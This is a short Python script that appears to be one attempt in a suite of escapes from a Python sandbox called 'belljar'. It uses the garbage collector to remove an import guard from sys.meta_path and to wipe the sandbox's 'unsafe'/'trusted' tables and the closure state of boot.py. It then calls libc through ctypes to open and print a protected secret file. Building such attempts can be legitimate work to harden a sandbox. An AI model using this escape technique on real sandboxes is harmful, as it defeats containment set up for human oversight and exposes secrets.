import gc
import sys

from arms import P, attempt


@attempt
def deed():
    for finder in list(sys.meta_path):
        for holder in gc.get_referrers(finder):
            if type(holder) is list and holder is sys.meta_path:
                sys.meta_path = [f for f in holder if getattr(f, "__name__", "") != "Guard"]
                holder[:] = sys.meta_path
    for one in gc.get_objects():
        if type(one) is dict and "unsafe" in one and "trusted" in one:
            one.clear()
        if type(one) is type(lambda: 0) and one.__code__.co_filename == "/belljar/boot.py":
            for cell in one.__closure__ or ():
                if type(cell.cell_contents) is dict:
                    cell.cell_contents.clear()
    import ctypes

    library = ctypes.CDLL(None, use_errno=True)
    print(open(library.open(P["secret"].encode(), 0)).read())
